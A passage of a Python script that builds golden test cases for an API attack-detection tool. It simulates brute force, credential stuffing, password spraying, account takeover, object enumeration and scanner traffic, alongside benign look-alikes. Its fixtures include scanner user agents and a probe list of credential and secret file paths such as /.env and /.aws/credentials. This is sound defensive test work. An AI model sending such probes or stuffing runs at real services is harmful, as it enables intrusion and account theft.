"""Write the golden cases of the built-in rule pack, next to the rules (``rules/builtin/tests/``).

Usage, from the repository: ``PYTHONPATH=src .venv/bin/python tests/rules/make_cases.py [OUT_DIR]``.

Each case below is a function named after its directory (``<rule>/<case>/``). It records events
the way apiwatch's sensor emits them (`Recorder.request`, `Recorder.login`) or the way an nginx
access log parses (`Recorder.access`, through the real parser), and says, from the scenario
alone, which alerts the rule must raise. Times are fixed and "random" choices come from a
`random.Random` seeded with the case's name, so a rerun writes the same bytes.

Negative cases are the traps every real API has (an office NAT, health probes, a crawler, a
user who resets a password, a support agent, a phone changing networks) and near misses just
below each threshold.
"""

from __future__ import annotations

import hashlib
import json
import random
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import msgspec

from apiwatch.detect import builtin_dir
from apiwatch.model import (
    Action,
    Event,
    EventMeta,
    ExposedObject,
    Host,
    Http,
    HttpRequest,
    HttpResponse,
    Service,
    Source,
    Url,
    User,
    UserAgent,
    encode_event,
)
from apiwatch.model.request_event import (
    Verdict,
    is_login_attempt,
    login_action,
    request_action,
    request_event,
    request_labels,
)
from apiwatch.sensor._tools import attack_tool
from apiwatch.sources.accesslog import parse_access_line
from apiwatch.sources.errorlogs import ERROR_PARSERS

HERE = builtin_dir() / "tests"  # where the cases ship, beside the rules they test
T0 = datetime(2026, 3, 2, 9, 0, 0, tzinfo=UTC)  # a Monday morning; times are seconds from here
LOGIN = "/api/v1/login"
ORDER = "/api/v1/orders/{order_id}"

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1"
)
APP = "ShopApp/4.2.1 (iPhone; iOS 17.3.1; Scale/3.00)"
OKHTTP = "okhttp/4.12.0"
BENIGN = (CHROME, FIREFOX, IPHONE, APP, OKHTTP)
BOTNET = (  # an old Chrome: what stuffing kits send
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/91.0.4472.124 Safari/537.36"
)
PYTHON = "python-requests/2.31.0"
CURL = "curl/8.5.0"
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
KUBE_PROBE = "kube-probe/1.29"
BLACKBOX = "Blackbox Exporter/0.24.0"
SQLMAP = "sqlmap/1.8.2#stable (https://sqlmap.org)"
NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000342)"
WFUZZ = "Wfuzz/3.1.0"

OFFICE_NAT = "198.51.100.10"
GOOGLEBOT_IP = "198.51.100.201"
PROBE_IP = "198.51.100.250"

_FIRST = ("olivia", "liam", "emma", "noah", "ava", "lucas", "mia", "ethan", "sofia", "mason",
          "chloe", "leo", "zoe", "omar", "nina", "ravi", "yuki", "lena", "hugo",
          "ines")  # fmt: skip
_LAST = ("brown", "martin", "garcia", "kim", "nguyen", "rossi", "schmidt", "dubois", "silva",
         "khan", "tanaka", "novak")  # fmt: skip
_DOMAINS = ("example.org", "example.net", "example.com")


def account(n: int) -> str:
    """The ``n``-th of 720 distinct account names (``olivia.brown@example.org`` ...)."""
    first, last = _FIRST[n % 20], _LAST[(n // 20) % 12]
    return f"{first}.{last}@{_DOMAINS[(n // 240) % 3]}"


def home_ip(n: int) -> str:
    """A customer's home address: 192.0.2.1 ... 192.0.2.254."""
    return f"192.0.2.{1 + n % 254}"


def bot_ip(n: int) -> str:
    """A botnet member: spread over forty /16 networks of 100.64.0.0/10."""
    return f"100.{64 + n % 40}.{(n * 37) % 256}.{1 + (n * 11) % 254}"


def token(name: str) -> str:
    """A sensor's fingerprint of a bearer token or session cookie (32 hex digits)."""
    return hashlib.blake2b(name.encode(), digest_size=16).hexdigest()


def alert(rule: str, group: dict[str, str], **extent: Any) -> dict[str, Any]:
    """One expected alert; lists in ``extent`` are compared as sorted lists."""
    found = {k: sorted(v) if isinstance(v, list | set | tuple) else v for k, v in extent.items()}
    return {"rule": rule, "group": group, **found}


def source_alert(rule: str, ip: str, count: int | None = None, **extent: Any) -> dict[str, Any]:
    """The alert of a rule that groups by ``source.ip``, on the one attacker ``ip``."""
    counted = {} if count is None else {"count": count}
    return alert(rule, {"source.ip": ip}, **counted, attackers=[ip], **extent)


@dataclass
class Recorder:
    """The events of one case; event ids are numbered so that reruns write the same bytes."""

    name: str
    events: list[Event] = field(default_factory=list)

    @property
    def rng(self) -> random.Random:
        return random.Random(self.name)  # noqa: S311 - reproducible scenarios, not secrets

    def _id(self) -> str:
        return hashlib.blake2b(
            f"{self.name}#{len(self.events)}".encode(), digest_size=16
        ).hexdigest()

    def request(
        self,
        t: float,
        ip: str,
        method: str,
        path: str,
        status: int,
        *,
        ua: str = CHROME,
        user: str | None = None,
        route: str | None = None,
        query: str | None = None,
        token_id: str | None = None,
        session_id: str | None = None,
        service: str = "shop-api",
    ) -> None:
        """One request as the sensor logs it (the OWASP action follows from route and status)."""
        tool = attack_tool(ua)
        labels = request_labels(route or path, token_id, session_id, tool)
        self.events.append(
            request_event(
                _login_verdict(method, path, status),
                status,
                tool,
                timestamp=T0 + timedelta(seconds=t),
                event_id=self._id(),
                method=method,
                path=path,
                source=Source(ip=ip),
                labels=labels,
                service=Service(name=service),
                host=Host(name=f"{service}-1"),
                query=query,
                duration=900_000 + (len(self.events) * 7_919_113) % 40_000_000,
                user_agent=UserAgent(original=ua),
                user_name=user,
            )
        )

    def login(self, t: float, ip: str, user: str, ok: bool, *, ua: str = CHROME) -> None:
        """A login attempt through the sensor: it names the account tried."""
        self.request(t, ip, "POST", LOGIN, 200 if ok else 401, ua=ua, user=user)

    def access(
        self,
        t: int,
        ip: str,
        method: str,
        target: str,
        status: int,
        *,
        ua: str,
        version: str = "1.1",
        referer: str = "-",
    ) -> None:
        """One nginx access-log line (combined format), parsed by apiwatch's access-log source:
        no account name, logins inferred from the route (``event.dataset: nginx.access``)."""
        when = (T0 + timedelta(seconds=t)).strftime("%d/%b/%Y:%H:%M:%S +0000")
        request = f"{method} {target} HTTP/{version}"
        line = f'{ip} - - [{when}] "{request}" {status} 512 "{referer}" "{ua}"'
        event = parse_access_line(line)
        if event is None:
            raise ValueError(f"not an access-log line: {line}")
        self._parsed(event)

    def _parsed(self, event: Event) -> None:
        """Record an event a log source parsed, numbered like the others."""
        event.event = msgspec.structs.replace(event.event, id=self._id())
        self.events.append(event)

    def access_login(self, t: int, ip: str, ok: bool, *, ua: str = CHROME) -> None:
        self.access(t, ip, "POST", LOGIN, 200 if ok else 401, ua=ua)

    def nginx_error(self, t: float, ip: str, text: str, target: str = "/") -> None:
        """One nginx error-log line about a client (``event.dataset: nginx.error``), parsed by
        apiwatch's error-log source."""
        when = (T0 + timedelta(seconds=t)).strftime("%Y/%m/%d %H:%M:%S")
        line = (
            f"{when} [error] 4065#4065: *{len(self.events) + 1} {text}, client: {ip}, "
            f'server: shop.example.com, request: "GET {target} HTTP/1.1", host: "shop.example.com"'
        )
        self._parsed(ERROR_PARSERS["nginx-error"](line, None))

    def mail_login_fail(self, t: float, ip: str, user: str) -> None:
        """One failed IMAP login through nginx's mail proxy, as its error log writes it."""
        when = (T0 + timedelta(seconds=t)).strftime("%Y/%m/%d %H:%M:%S")
        line = (
            f'{when} [info] 8#8: *{len(self.events) + 1} client login failed: "Invalid login" '
            f'while in http auth state, client: {ip}, server: 0.0.0.0:143, login: "{user}"'
        )
        self._parsed(ERROR_PARSERS["nginx-error"](line, None))

    def magento(self, t: float, ip: str, kind: str) -> None:
        """One event of Magento's CrowdSec extension (``ADMIN_LOGIN_FAILED``, ``PAYMENT_FAILED``),
        parsed by apiwatch's source for it."""
        when = (T0 + timedelta(seconds=t)).strftime("%Y-%m-%d %H:%M:%S")
        body = json.dumps({"type": kind, "ip": ip, "x-forwarded-for-ip": ""})
        self._parsed(ERROR_PARSERS["magento"](f"[{when}] crowdsec-events.INFO:  {body} []", None))


def _login_verdict(method: str, path: str, status: int) -> Verdict | None:
    """What the sensor makes of a login to the JSON API (None: no login, or no outcome)."""
    if not is_login_attempt(method, path, _LOGIN_PATHS):
        return None
    return login_action(status, Action.AUTHN_LOGIN_SUCCESS)


_LOGIN_PATHS = frozenset({LOGIN})


Expected = list[dict[str, Any]] | dict[str, Any]
Scenario = Callable[[Recorder], Expected]
CASES: dict[tuple[str, str], Scenario] = {}


def case(rule: str, name: str) -> Callable[[Scenario], Scenario]:
    def register(scenario: Scenario) -> Scenario:
        CASES[(rule, name)] = scenario
        return scenario

    return register


# -- scenery shared by several cases -----------------------------------------------------------


def customers(r: Recorder, start: int, end: int, *, every: int = 45, offset: int = 0) -> None:
    """Ordinary customers logging in and browsing (each from home, each with their own phone or
    browser), one every ``every`` seconds; no failed logins."""
    for n, t in enumerate(range(start, end, every)):
        who = offset + n
        ip, ua = home_ip(who), BENIGN[who % len(BENIGN)]
        r.login(t, ip, account(who), ok=True, ua=ua)
        r.request(t + 2, ip, "GET", f"/api/v1/orders/{7000 + who}", 200, ua=ua,
                  user=account(who), route=ORDER)  # fmt: skip


def office_morning(r: Recorder, *, people: int, typos: int, start: int, span: int) -> None:
    """Employees behind one NAT address logging in over ``span`` seconds; ``typos`` of them
    mistype their password once or twice first."""
    rng = r.rng
    for n in range(people):
        t = start + n * span // people
        who = account(500 + n)
        ua = BENIGN[n % 3]
        if n < typos:
            for k in range(1 + n % 2):
                r.login(t, OFFICE_NAT, who, ok=False, ua=ua)
                t += 6 + k * 5
        r.login(t + 4, OFFICE_NAT, who, ok=True, ua=ua)
        r.request(t + 9, OFFICE_NAT, "GET", "/api/v1/dashboard", 200, ua=ua, user=who)
        r.request(t + 9 + rng.randrange(20, 90), OFFICE_NAT, "GET", "/api/v1/reports", 200, ua=ua,
                  user=who)  # fmt: skip


def probes(r: Recorder, start: int, end: int, *, every: int = 5, path: str = "/health") -> None:
    """A load balancer's health probe."""
    for t in range(start, end, every):
        r.request(t, PROBE_IP, "GET", path, 200, ua=KUBE_PROBE)


# -- brute-force-account: 10+ failed logins for one account in 10 minutes ----------------------

BF = "brute-force-account"


@case(BF, "one-source-twelve-guesses")
def bf_one_source(r: Recorder) -> Expected:
    customers(r, 0, 600)
    victim, ip = account(1), "203.0.113.66"
    for n in range(12):
        r.login(120 + n * 10, ip, victim, ok=False, ua=PYTHON)
    return [alert(BF, {"user.name": victim}, count=12, attackers=[ip], accounts=[victim])]


@case(BF, "ten-sources-one-account")
def bf_distributed(r: Recorder) -> Expected:
    customers(r, 0, 600)
    victim = "finance@example.com"
    ips = [bot_ip(n) for n in range(10)]
    for n, ip in enumerate(ips):
        r.login(60 + n * 25, ip, victim, ok=False, ua=BOTNET)
    return [alert(BF, {"user.name": victim}, count=10, attackers=ips, accounts=[victim])]


@case(BF, "typos-then-password-reset")
def bf_reset(r: Recorder) -> Expected:
    customers(r, 0, 900)
    who, ip = account(3), home_ip(200)
    for n in range(5):
        r.login(100 + n * 15, ip, who, ok=False, ua=IPHONE)
    r.request(200, ip, "POST", "/api/v1/password-reset", 202, ua=IPHONE)
    r.request(420, ip, "POST", "/api/v1/password-reset/confirm", 200, ua=IPHONE)
    r.login(450, ip, who, ok=True, ua=IPHONE)
    return []


@case(BF, "nine-failures-in-a-minute")
def bf_nine(r: Recorder) -> Expected:
    customers(r, 0, 600)
    for n in range(9):
        r.login(100 + n * 6, "203.0.113.66", account(1), ok=False, ua=PYTHON)
    return []


@case(BF, "ten-failures-in-ten-minutes-three-seconds")
def bf_window(r: Recorder) -> Expected:
    customers(r, 0, 900)
    for n in range(10):  # the tenth comes 603 s after the first: never ten in one window
        r.login(60 + n * 67, "203.0.113.66", account(1), ok=False, ua=PYTHON)
    return []


# -- credential-stuffing-source: one source, 15+ distinct accounts failing in 15 minutes -------

CS = "credential-stuffing-source"


def stuff(r: Recorder, ip: str, start: int, accounts: list[str], *, every: int = 4) -> None:
    for n, who in enumerate(accounts):
        r.login(start + n * every, ip, who, ok=False, ua=PYTHON)


@case(CS, "combo-list-from-one-address")
def cs_combo(r: Recorder) -> Expected:
    customers(r, 0, 600)
    ip, tried = "203.0.113.23", [account(300 + n) for n in range(40)]
    stuff(r, ip, 90, tried)
    return [source_alert(CS, ip, 40, accounts=tried)]


@case(CS, "office-nat-monday-morning")
def cs_office(r: Recorder) -> Expected:
    office_morning(r, people=45, typos=10, start=-900, span=1800)
    return []


@case(CS, "fourteen-accounts")
def cs_fourteen(r: Recorder) -> Expected:
    customers(r, 0, 900)
    stuff(r, "203.0.113.23", 60, [account(300 + n) for n in range(14)], every=40)
    return []


@case(CS, "fifteen-accounts-over-sixteen-minutes")
def cs_window(r: Recorder) -> Expected:
    customers(r, 0, 1200)
    stuff(r, "203.0.113.23", 60, [account(300 + n) for n in range(15)], every=68)
    return []


# -- login-failures-source: 25+ failed logins from one source in 15 minutes, access logs -------

LFS = "login-failures-source"


def access_customers(r: Recorder, start: int, end: int, *, every: int = 30) -> None:
    """Customers in an nginx access log: a login and a page view each, from home."""
    for n, t in enumerate(range(start, end, every)):
        ip, ua = home_ip(n), BENIGN[n % len(BENIGN)]
        r.access_login(t, ip, ok=True, ua=ua)
        r.access(t + 3, ip, "GET", f"/api/v1/products/{100 + n % 40}", 200, ua=ua)


@case(LFS, "access-log-stuffing")
def lfs_stuffing(r: Recorder) -> Expected:
    access_customers(r, 0, 600)
    ip = "203.0.113.40"
    for n in range(30):
        r.access_login(120 + n * 3, ip, ok=False, ua=PYTHON)
    return [source_alert(LFS, ip, 30, accounts=[])]


@case(LFS, "office-nat-access-log")
def lfs_office(r: Recorder) -> Expected:
    access_customers(r, 0, 1800, every=60)
    for n in range(40):  # forty people, one in three mistypes once: ~13 failures in 30 minutes
        t = n * 45
        if n % 3 == 0:
            r.access_login(t, OFFICE_NAT, ok=False, ua=BENIGN[n % 3])
        r.access_login(t + 8, OFFICE_NAT, ok=True, ua=BENIGN[n % 3])
        r.access(t + 12, OFFICE_NAT, "GET", "/api/v1/dashboard", 200, ua=BENIGN[n % 3])
    return []


@case(LFS, "twenty-four-failures")
def lfs_near(r: Recorder) -> Expected:
    access_customers(r, 0, 900)
    for n in range(24):
        r.access_login(60 + n * 30, "203.0.113.40", ok=False, ua=PYTHON)
    return []


@case(LFS, "sensor-events-name-the-account")
def lfs_named(r: Recorder) -> Expected:
    customers(r, 0, 600)
    stuff(r, "203.0.113.40", 60, [account(300 + n % 5) for n in range(30)], every=3)
    return []  # the sensor names accounts: brute force and stuffing rules cover this, not this one


# -- password-spraying: one source, 20+ distinct accounts failing in 3 hours -------------------

PS = "password-spraying"


@case(PS, "slow-spray-one-address")
def ps_spray(r: Recorder) -> Expected:
    customers(r, -600, 10_800, every=300)
    ip, tried = "203.0.113.99", [account(n) for n in range(24)]
    for n, who in enumerate(tried):  # Winter2026! against each account, one every seven minutes
        r.login(n * 420, ip, who, ok=False, ua=CHROME)
    return [source_alert(PS, ip, 24, accounts=tried)]


@case(PS, "office-nat-whole-morning")
def ps_office(r: Recorder) -> Expected:
    office_morning(r, people=60, typos=14, start=-1800, span=10_800)
    return []


@case(PS, "twenty-accounts-over-three-hours-ten-minutes")
def ps_window(r: Recorder) -> Expected:
    customers(r, -600, 12_000, every=300)
    for n in range(20):  # 19 in any three hours
        r.login(n * 600, "203.0.113.99", account(n), ok=False, ua=CHROME)
    return []


# -- credential-stuffing-distributed: distinct failing accounts, all sources, vs baseline ------

CSD = "credential-stuffing-distributed"


def quiet_history(r: Recorder, *, access_log: bool = False) -> None:
    """Two hours before 09:00: a login every two minutes, a typo every fifteen (then success)."""
    for n, t in enumerate(range(-7200, -60, 120)):
        ip, ua = home_ip(n), BENIGN[n % len(BENIGN)]
        if n % 8 == 0:
            _login(r, t - 20, ip, account(n), ok=False, ua=ua, access_log=access_log)
        _login(r, t, ip, account(n), ok=True, ua=ua, access_log=access_log)


def _login(r: Recorder, t: int, ip: str, who: str, *, ok: bool, ua: str, access_log: bool) -> None:
    if access_log:
        r.access_login(t, ip, ok=ok, ua=ua)
    else:
        r.login(t, ip, who, ok=ok, ua=ua)


@case(CSD, "botnet-120-addresses")
def csd_botnet(r: Recorder) -> Expected:
    quiet_history(r)
    customers(r, 0, 600, every=60, offset=100)
    ips = [bot_ip(n) for n in range(120)]
    tried = [account(240 + n) for n in range(240)]
    for n in range(240):  # each member tries two accounts, members in turn
        r.login(n * 1.5, ips[n % 120], tried[n], ok=False, ua=BOTNET)
    winner = account(600)
    r.login(250, ips[7], winner, ok=True, ua=BOTNET)  # one stolen password works
    return {
        "alerts": [alert(CSD, {}, count=241, attackers=ips)],
        "incidents": [{"attackers": sorted(ips), "accounts_compromised": [winner]}],
    }


@case(CSD, "morning-rush-below-four-times-baseline")
def csd_rush(r: Recorder) -> Expected:
    # A busy consumer app: 15 distinct accounts mistyped per ten minutes, then 52 in ten minutes
    # (over the minimum of 40, under four times the baseline).
    for n, t in enumerate(range(-7200, -30, 40)):
        ip, ua = home_ip(n), BENIGN[n % len(BENIGN)]
        r.login(t, ip, account(n), ok=False, ua=ua)
        r.login(t + 9, ip, account(n), ok=True, ua=ua)
    for n in range(52):
        ip, ua = home_ip(n + 7), BENIGN[n % len(BENIGN)]
        r.login(n * 11, ip, account(400 + n), ok=False, ua=ua)
        r.login(n * 11 + 9, ip, account(400 + n), ok=True, ua=ua)
    return []


@case(CSD, "thirty-nine-accounts-after-quiet-history")
def csd_near(r: Recorder) -> Expected:
    quiet_history(r)
    for n in range(39):
        r.login(300 + n * 10, bot_ip(n), account(240 + n), ok=False, ua=BOTNET)
    return []


# -- credential-stuffing-steady: one-shot suspects an hour, whatever the rate ------------------

CSS = "credential-stuffing-steady"


@case(CSS, "one-try-per-address-for-three-hours")
def css_thin(r: Recorder) -> Expected:
    customers(r, -3600, 10_800, every=90)
    bots = [bot_ip(n) for n in range(120)]
    for n, ip in enumerate(bots):  # forty an hour, one try each: never a surge
        r.login(n * 90 + 40, ip, f"{_FIRST[n % 20].lower()}{n}@mail.example", ok=False, ua=BOTNET)
    return {
        "alerts": [alert(CSS, {}, attackers=bots)],
        "incidents": [{"attackers": sorted(bots), "accounts_compromised": []}],
    }


@case(CSS, "typos-resets-and-a-monitor")
def css_benign(r: Recorder) -> Expected:
    customers(r, -3600, 10_800, every=90)
    for n in range(150):  # a typo, then in: more failures an hour than the run above
        ip, who = home_ip(n + 40), account(n + 300)
        r.login(n * 70, ip, who, ok=False)
        r.login(n * 70 + 12, ip, who, ok=True)
    for n in range(60):  # forgotten: one try from the phone, then a password reset
        ip, who = f"198.18.{n}.9", account(500 + n)
        r.login(n * 170 + 30, ip, who, ok=False, ua=IPHONE)
        r.request(n * 170 + 50, ip, "POST", "/api/v1/password-reset", 202, ua=IPHONE)
    for t in range(-3600, 10_800, 60):  # an uptime monitor's canary, failing every minute
        r.request(t, PROBE_IP, "GET", "/healthz", 200, ua=BLACKBOX)
        r.login(t + 1, PROBE_IP, "canary@monitor.example", ok=False, ua=BLACKBOX)
    return []


# -- login-failure-surge: failed logins without account names, all sources, vs baseline --------

LSURGE = "login-failure-surge"


@case(LSURGE, "access-log-botnet-surge")
def surge_botnet(r: Recorder) -> Expected:
    quiet_history(r, access_log=True)
    ips = [bot_ip(n) for n in range(90)]
    for n in range(180):
        r.access_login(n * 2, ips[n % 90], ok=False, ua=BOTNET)
    r.access_login(200, ips[3], ok=True, ua=BOTNET)
    # Access logs name no account, so no compromised account can be named.
    return {
        "alerts": [alert(LSURGE, {}, count=180, attackers=ips, accounts=[])],
        "incidents": [{"attackers": sorted(ips), "accounts_compromised": []}],
    }


@case(LSURGE, "busy-morning-below-four-times-baseline")
def surge_busy(r: Recorder) -> Expected:
    for n, t in enumerate(range(-7200, -20, 30)):  # twenty typos per ten minutes
        ip, ua = home_ip(n), BENIGN[n % len(BENIGN)]
        r.access_login(t, ip, ok=False, ua=ua)
        if n % 2 == 0:
            r.access_login(t + 10, ip, ok=True, ua=ua)
    for n in range(70):  # then seventy in ten minutes: more than sixty, less than four times 20
        ip, ua = home_ip(n + 3), BENIGN[n % len(BENIGN)]
        r.access_login(n * 8, ip, ok=False, ua=ua)
    return []


@case(LSURGE, "fifty-nine-failures-after-quiet-history")
def surge_near(r: Recorder) -> Expected:
    quiet_history(r, access_log=True)
    for n in range(59):
        r.access_login(300 + n * 5, bot_ip(n), ok=False, ua=BOTNET)
    return []


# -- account-takeover-account: brute force on an account, then it logs in (30 minutes) ---------

ATA = "account-takeover-account"


@case(ATA, "guessed-after-twelve-tries")
def ata_guessed(r: Recorder) -> Expected:
    customers(r, 0, 900)
    victim, ip = account(1), "203.0.113.66"
    for n in range(12):
        r.login(120 + n * 10, ip, victim, ok=False, ua=PYTHON)
    r.login(250, ip, victim, ok=True, ua=PYTHON)
    r.request(260, ip, "GET", "/api/v1/account/payment-methods", 200, ua=PYTHON, user=victim)
    return {
        "alerts": [alert(ATA, {"user.name": victim}, attackers=[ip], accounts=[victim])],
        "incidents": [{"attackers": [ip], "accounts_compromised": [victim]}],
    }


@case(ATA, "typos-then-password-reset")
def ata_reset(r: Recorder) -> Expected:
    return bf_reset(r)


@case(ATA, "owner-logged-in-before-the-brute-force")
def ata_order(r: Recorder) -> Expected:
    customers(r, 0, 900)
    victim = account(1)
    r.login(30, home_ip(1), victim, ok=True, ua=IPHONE)
    for n in range(12):
        r.login(120 + n * 10, "203.0.113.66", victim, ok=False, ua=PYTHON)
    return []


@case(ATA, "success-thirty-one-minutes-later")
def ata_late(r: Recorder) -> Expected:
    customers(r, 0, 2400, every=120)
    victim = account(1)
    for n in range(12):
        r.login(120 + n * 10, "203.0.113.66", victim, ok=False, ua=PYTHON)
    r.login(230 + 31 * 60, home_ip(1), victim, ok=True, ua=IPHONE)
    return []


# -- account-takeover-source: a stuffing source logs in successfully (30 minutes) --------------

ATS = "account-takeover-source"


@case(ATS, "stuffing-then-hit")
def ats_hit(r: Recorder) -> Expected:
    customers(r, 0, 600)
    ip, tried = "203.0.113.23", [account(300 + n) for n in range(40)]
    stuff(r, ip, 60, tried[:30])
    winner = account(330)
    r.login(60 + 30 * 4, ip, winner, ok=True, ua=PYTHON)
    stuff(r, ip, 60 + 31 * 4, tried[31:])
    return {
        "alerts": [source_alert(ATS, ip)],
        "incidents": [{"attackers": [ip], "accounts_compromised": [winner]}],
    }


@case(ATS, "office-nat-monday-morning")
def ats_office(r: Recorder) -> Expected:
    return cs_office(r)


@case(ATS, "hit-from-another-address")
def ats_other(r: Recorder) -> Expected:
    customers(r, 0, 600)
    tried = [account(300 + n) for n in range(30)]
    stuff(r, "203.0.113.23", 60, tried)
    r.login(240, home_ip(77), tried[4], ok=True, ua=IPHONE)  # the real owner, from home
    return []


@case(ATS, "success-thirty-one-minutes-later")
def ats_late(r: Recorder) -> Expected:
    customers(r, 0, 2400, every=120)
    ip, tried = "203.0.113.23", [account(300 + n) for n in range(20)]
    stuff(r, ip, 60, tried)
    r.login(60 + 19 * 4 + 31 * 60, ip, account(340), ok=True, ua=PYTHON)
    return []


# -- object-enumeration: one actor, 25+ distinct objects denied under one route in 10 minutes --

OE = "object-enumeration"


@case(OE, "order-id-walk")
def oe_walk(r: Recorder) -> Expected:
    customers(r, 0, 600)
    me, ip, tok = "mallory@example.net", "203.0.113.77", token("mallory-token")
    r.login(0, ip, me, ok=True, ua=CURL)
    for t, own in ((10, 5001), (20, 5002)):
        r.request(t, ip, "GET", f"/api/v1/orders/{own}", 200, ua=CURL, user=me, route=ORDER,
                  token_id=tok)  # fmt: skip
    leaked = {4973, 4990}  # the BOLA bug: these answer anyone
    answered = leaked | {5001, 5002}
    denied = []
    for n, order in enumerate(range(4960, 5020)):
        status = 200 if order in answered else 403
        r.request(60 + n * 3, ip, "GET", f"/api/v1/orders/{order}", status, ua=CURL, user=me,
                  route=ORDER, token_id=tok)  # fmt: skip
        if status == 403:
            denied.append(str(ExposedObject(ORDER, order)))
    group = {"apiwatch.actor": me, "apiwatch.route": ORDER}
    return {
        "alerts": [alert(OE, group, count=len(denied), attackers=[ip], objects=denied)],
        # the walk's 2xx answers, before the alert fired and after, but not her own orders (she
        # read them before the walk); her own login is no compromise
        "incidents": [{"attackers": [ip], "accounts_compromised": [],
                       "objects_exposed": sorted(str(ExposedObject(ORDER, o)) for o in leaked)}],
    }  # fmt: skip


@case(OE, "api-token-walking-invoices")
def oe_token(r: Recorder) -> Expected:
    customers(r, 0, 600)
    tok, ip, route = token("partner-integration"), "203.0.113.78", "/api/v1/invoices/{invoice_id}"
    for n in range(30):
        r.request(100 + n, ip, "GET", f"/api/v1/invoices/{20260300 + n}", 404, ua=PYTHON,
                  route=route, token_id=tok)  # fmt: skip
    return [alert(OE, {"apiwatch.actor": tok, "apiwatch.route": route}, count=30, attackers=[ip])]


@case(OE, "support-agent-150-orders")
def oe_support(r: Recorder) -> Expected:
    customers(r, 0, 1200)
    agent, ip = "sam.support@example.com", "198.51.100.20"
    r.login(0, ip, agent, ok=True)
    for n in range(150):
        r.request(10 + n * 8, ip, "GET", f"/api/v1/orders/{6000 + n * 7}", 200, user=agent,
                  route=ORDER)  # fmt: skip
    for n in range(3):  # a few mistyped order numbers
        r.request(400 + n * 100, ip, "GET", f"/api/v1/orders/{99990 + n}", 404, user=agent,
                  route=ORDER)  # fmt: skip
    return []


@case(OE, "googlebot-stale-product-links")
def oe_crawler(r: Recorder) -> Expected:
    customers(r, 0, 600)
    route = "/api/v1/products/{product_id}"
    for n in range(40):
        status = 404 if n % 10 else 200
        r.request(100 + n * 1.5, GOOGLEBOT_IP, "GET", f"/api/v1/products/{3000 + n * 13}", status,
                  ua=GOOGLEBOT, route=route)  # fmt: skip
    return []


@case(OE, "twenty-four-denied-objects")
def oe_near(r: Recorder) -> Expected:
    customers(r, 0, 600)
    me, ip = "mallory@example.net", "203.0.113.77"
    for n in range(24):
        r.request(60 + n * 3, ip, "GET", f"/api/v1/orders/{4960 + n}", 403, ua=CURL, user=me,
                  route=ORDER)  # fmt: skip
    return []


@case(OE, "thirty-denials-26-seconds-apart")
def oe_window(r: Recorder) -> Expected:
    customers(r, 0, 900)
    me, ip = "mallory@example.net", "203.0.113.77"
    for n in range(30):  # at most 24 in any ten minutes
        r.request(60 + n * 26, ip, "GET", f"/api/v1/orders/{4960 + n}", 403, ua=CURL, user=me,
                  route=ORDER)  # fmt: skip
    return []


# -- scanners: tool user agents, sensitive files, injection strings ----------------------------

TOOL, FILES, TRAV, SQLI, XSS = (
    "attack-tool-user-agent", "sensitive-file-probe", "path-traversal", "sql-injection", "xss",
)  # fmt: skip


def ordinary_requests(r: Recorder, targets: list[tuple[str, str | None]]) -> None:
    """Customers' requests for ``(path, query)`` targets, a few seconds apart, all answered."""
    for n, (path, query) in enumerate(targets):
        r.request(n * 7, home_ip(n), "GET", path, 200, ua=BENIGN[n % len(BENIGN)], query=query)


@case(TOOL, "sqlmap-against-search")
def tool_sqlmap(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.31"
    for n in range(30):
        r.request(
            60 + n * 2, ip, "GET", "/api/v1/search", 200, ua=SQLMAP, query=f"q=shoes&page={n}"
        )
    return [source_alert(TOOL, ip, 30)]


@case(TOOL, "sensor-flagged-wfuzz")
def tool_wfuzz(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.32"  # not in the rule's user-agent list; the sensor's own list has it
    for n, word in enumerate(("admin", "backup", "old", "test", "v0")):
        r.request(60 + n, ip, "GET", f"/api/{word}", 404, ua=WFUZZ)
    return [source_alert(TOOL, ip, 5)]


@case(TOOL, "nikto-in-access-log")
def tool_nikto(r: Recorder) -> Expected:
    access_customers(r, 0, 300)
    ip = "203.0.113.33"
    for n, path in enumerate(("/", "/robots.txt", "/cgi-bin/test.cgi", "/index.php?id=1")):
        r.access(60 + n, ip, "GET", path, 404, ua=NIKTO)
    return [source_alert(TOOL, ip, 4)]


@case(TOOL, "ordinary-clients-and-probes")
def tool_benign(r: Recorder) -> Expected:
    customers(r, 0, 600, every=20)
    probes(r, 0, 600)
    for n, ua in enumerate((CURL, PYTHON, GOOGLEBOT, BLACKBOX, "Go-http-client/2.0",
                            "PostmanRuntime/7.36.3", "Slackbot-LinkExpanding 1.0")):  # fmt: skip
        r.request(30 + n * 11, home_ip(100 + n), "GET", "/api/v1/products", 200, ua=ua)
    return []


@case(FILES, "dotenv-and-git-probe")
def files_probe(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.34"
    paths = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/actuator/env",
             "/.aws/credentials", "/backup.sql"]  # fmt: skip
    for n, path in enumerate(paths):
        r.request(60 + n * 2, ip, "GET", path, 404, ua=CHROME)
    return [source_alert(FILES, ip, len(paths))]


@case(FILES, "health-probes-and-ordinary-paths")
def files_benign(r: Recorder) -> Expected:
    probes(r, 0, 600)
    ordinary_requests(r, [
        ("/.well-known/openid-configuration", None), ("/api/v1/environments", None),
        ("/api/v1/envelopes/42", None), ("/api/v1/config", None), ("/favicon.ico", None),
        ("/robots.txt", None), ("/api/v1/admin-contacts", None), ("/api/v1/git-repos", None),
    ])  # fmt: skip
    return []


@case(TRAV, "dot-dot-slash-download")
def trav_attack(r: Recorder) -> Expected:
    customers(r, 0, 300)
    ip = "203.0.113.35"
